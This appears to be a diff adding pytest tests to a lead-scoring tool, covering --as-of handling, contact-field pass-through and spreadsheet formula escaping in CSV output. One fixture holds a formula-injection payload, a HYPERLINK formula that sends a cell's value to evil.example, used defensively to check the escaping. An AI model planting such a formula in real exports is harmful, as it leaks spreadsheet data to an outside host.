@@ -17,20 +17,24 @@ from leadml.batch import (
     REASONS_JSON,
     decode_reasons,
     encode_reasons,
+    escape_formulas,
     grades_within_batch,
     open_leads,
     parse_as_of,
     reasons_text,
+    run_batch,
     score_open_leads,
     top_reason,
 )
 from leadml.bundle import save_bundle
+from leadml.config import Config, ScoreConfig, StoreConfig, load_config
 from leadml.errors import InputError
 from leadml.io import Dataset
 from leadml.labels import data_end
 from leadml.pipeline import TrainedModel
 from leadml.scoring import Scorer
-from leadml.store import lead_detail, open_store, ranked
+from leadml.store import batch_summary, lead_detail, open_store, ranked
+from tests.flat_export import synthetic_export, write_export
 
 PII = ("contact_name", "email", "phone")
 
@@ -330,3 +334,121 @@ def test_score_help_has_an_example() -> None:
     result = CliRunner().invoke(app, ["score", "--help"])
     assert result.exit_code == 0, result.output
     assert "Example" in result.output and "--as-of" in result.output
+
+
+@pytest.mark.parametrize("as_of", ["2026-01-01", "latest"])
+def test_as_of_on_a_flat_export_is_refused_not_ignored(
+    tmp_path: Path, as_of: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A flat export is as of the day it was exported: an explicit --as-of cannot hold."""
+    from typer.testing import CliRunner
+
+    from leadml.batch import run_batch
+    from leadml.cli import app
+    from leadml.config import load_config
+
+    export = tmp_path / "export.csv"
+    export.write_text("id,views\nA,3\nB,5\n", encoding="utf-8")
+    config = load_config(project_dir=tmp_path)
+    with pytest.raises(InputError, match="--as-of cannot be applied to a flat export") as info:
+        run_batch(export, config, model=str(tmp_path / "no-model"), as_of=as_of, store=False)
+    assert info.value.value == as_of and info.value.file == export
+    monkeypatch.chdir(tmp_path)
+    result = CliRunner().invoke(
+        app, ["score", "--data", str(export), "--as-of", as_of, "--no-store"]
+    )
+    assert result.exit_code == 1
+    assert "--as-of" in result.output + str(result.exception)
+
+
+def test_csv_cells_that_start_like_formulas_get_a_quote() -> None:
+    text = ["=1+1", "+44 20 7946", "-5", "@SUM(A1)", "\tx", "\rx", "ok", None, "-", "1e5"]
+    frame = pd.DataFrame(
+        {
+            "company": pd.Series(text, dtype="str"),
+            "score": np.arange(-5, 5),
+            "mixed": pd.Series([-2.5, "=x", None, "+1.5e3", 7, "a", "b", "c", "d", "e"]),
+        }
+    )
+    safe = escape_formulas(frame)
+    want = ["'=1+1", "'+44 20 7946", "-5", "'@SUM(A1)", "'\tx", "'\rx", "ok", None, "'-", "1e5"]
+    got = safe["company"].tolist()
+    assert [None if pd.isna(v) else v for v in got] == want
+    assert safe["company"].dtype == frame["company"].dtype
+    assert safe["score"].tolist() == list(range(-5, 5))  # numbers are not text
+    assert safe["mixed"].tolist()[:5] == [-2.5, "'=x", None, "+1.5e3", 7]
+    assert frame["company"].iloc[0] == "=1+1", "the input frame is left as it was"
+
+
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
+
+
+@pytest.fixture(scope="module")
+def flat_project(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Config, Path]:
+    """A flat export (Email, Phone: role pii) with a formula as one open lead's company,
+    and a flat model trained on it."""
+    from leadml.mapping import read_flat
+    from leadml.pipeline import fit_and_evaluate_flat
+
+    folder = tmp_path_factory.mktemp("flat")
+    frame = synthetic_export(1500, seed=4)
+    frame.loc[frame.index[frame["Converted"] == "0"][0], "Company Name"] = EVIL
+    config = load_config(
+        write_export(folder, frame),
+        overrides={"train": {"bootstrap_rounds": 0, "shap_sample": 100, "num_threads": 1}},
+    )
+    assert config.dataset is not None
+    trained = fit_and_evaluate_flat(read_flat(folder / "export.csv", config.dataset), config)
+    return folder, config, save_bundle(trained.bundle, folder / "bundle")
+
+
+def _flat_run(
+    flat_project: tuple[Path, Config, Path], name: str, score: ScoreConfig | None = None
+) -> tuple[pd.DataFrame, str]:
+    folder, config, bundle = flat_project
+    url = f"sqlite:///{folder / name}.db"
+    update: dict[str, object] = {"store": StoreConfig(url=url)}
+    if score is not None:
+        update["score"] = score
+    out = folder / name / "ranked.csv"
+    run_batch(folder / "export.csv", config.model_copy(update=update), model=str(bundle), out=out)
+    return pd.read_csv(out, dtype=str, keep_default_na=False), url
+
+
+def test_flat_contact_details_leave_only_when_listed(
+    flat_project: tuple[Path, Config, Path],
+) -> None:
+    listed, url = _flat_run(flat_project, "default")
+    assert list(listed.columns) == [*RANKED_COLUMNS, "Company Name"]
+    engine = open_store(url)
+    try:
+        summary = batch_summary(engine)
+        assert summary is not None and summary["batch"]["pass_through"] == ["Company Name"]
+        rows, _ = ranked(engine, limit=None)
+        assert not {"Email", "Phone"} & set(rows[0])
+    finally:
+        engine.dispose()
+    opted, url = _flat_run(flat_project, "opted", ScoreConfig(pass_through=("Email",)))
+    assert list(opted.columns) == [*RANKED_COLUMNS, "Company Name", "Email"]
+    assert opted["Email"].str.endswith("@example.com").all()
+
+
+def test_flat_list_csv_escapes_formulas_and_filters_sources_as_written(
+    flat_project: tuple[Path, Config, Path],
+) -> None:
+    listed, url = _flat_run(flat_project, "escaped")
+    evil = listed[listed["Company Name"].str.contains("HYPERLINK")]
+    assert len(evil) == 1
+    assert evil["Company Name"].iloc[0] == evil["company"].iloc[0] == "'" + EVIL
+    engine = open_store(url)
+    try:
+        rows, _ = ranked(engine, q="HYPERLINK")
+        assert [r["company"] for r in rows] == [EVIL]  # the store keeps the real value
+        summary = batch_summary(engine)
+        assert summary is not None and "Google" in summary["sources"]
+        for name, n in summary["sources"].items():  # what the sales page passes back
+            found, total = ranked(engine, limit=None, source=name)
+            assert total == n == len(found) > 0
+            assert {r["lead_source"] for r in found} == {name}
+    finally:
+        engine.dispose()
